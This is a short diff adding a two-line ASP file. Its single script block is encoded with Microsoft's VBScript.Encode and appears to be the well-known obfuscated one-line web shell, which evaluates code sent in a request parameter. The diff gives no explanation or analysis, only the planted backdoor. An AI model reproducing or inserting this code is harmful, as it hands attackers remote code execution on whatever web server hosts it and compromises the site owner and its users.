@@ -1,0 +1,2 @@
+<%@ LANGUAGE = VBScript.Encode %>
+<%#@~^AAAAAA==n7ls,D;E/DcJXJb@&AAAAAA==^#~@%>
